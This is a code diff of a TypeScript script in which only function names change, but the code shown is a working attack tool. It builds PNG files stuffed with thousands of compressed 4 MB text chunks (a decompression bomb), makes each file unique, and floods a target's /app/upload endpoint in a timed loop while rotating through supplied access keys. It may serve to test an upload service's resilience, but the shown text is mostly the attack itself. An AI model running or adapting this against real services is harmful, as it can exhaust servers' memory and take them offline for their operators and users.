@@ -11,7 +11,7 @@ setPriority(19)
 const [url = '', seconds = '5', tokens = ''] = process.argv.slice(2)
 const people = tokens.split(',')
 
-function chunk(kind: string, data: Buffer): Buffer {
+function createChunk(kind: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(kind, 'latin1'), data])
   const frame = Buffer.alloc(8)
   frame.writeUInt32BE(data.length, 0)
@@ -22,19 +22,19 @@ function chunk(kind: string, data: Buffer): Buffer {
 const side = 64
 const header = Buffer.from([0, 0, 0, side, 0, 0, 0, side, 8, 2, 0, 0, 0])
 const bomb = deflateSync(Buffer.alloc(4 * 1024 * 1024 - 16), { level: 9 })
-const comment = chunk('zTXt', Buffer.concat([Buffer.from('k\0\0'), bomb]))
+const comment = createChunk('zTXt', Buffer.concat([Buffer.from('k\0\0'), bomb]))
 const comments = Buffer.concat(Array.from({ length: 2_500 }, () => comment))
-const pixels = chunk('IDAT', deflateSync(Buffer.alloc(side * (1 + 3 * side))))
+const pixels = createChunk('IDAT', deflateSync(Buffer.alloc(side * (1 + 3 * side))))
 
 /** Another file each time: the same bytes would be the same file. */
-const png = (): Buffer =>
+const createPng = (): Buffer =>
   Buffer.concat([
     Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
-    chunk('IHDR', header),
-    chunk('tEXt', Buffer.from(`k\0${randomBytes(8).toString('hex')}`)),
+    createChunk('IHDR', header),
+    createChunk('tEXt', Buffer.from(`k\0${randomBytes(8).toString('hex')}`)),
     comments,
     pixels,
-    chunk('IEND', Buffer.alloc(0)),
+    createChunk('IEND', Buffer.alloc(0)),
   ])
 
 let [answers, failed, turn] = [0, 0, 0]
@@ -43,7 +43,7 @@ async function send(): Promise<void> {
   while (performance.now() < until) {
     const form = new FormData()
     form.append('purpose', 'proof')
-    form.append('file', new Blob([new Uint8Array(png())], { type: 'image/png' }), 'a.png')
+    form.append('file', new Blob([new Uint8Array(createPng())], { type: 'image/png' }), 'a.png')
     turn += 1
     const headers = { 'authorized-key': people[turn % people.length] ?? '' }
     const response = await fetch(`${url}/app/upload`, { method: 'POST', headers, body: form })
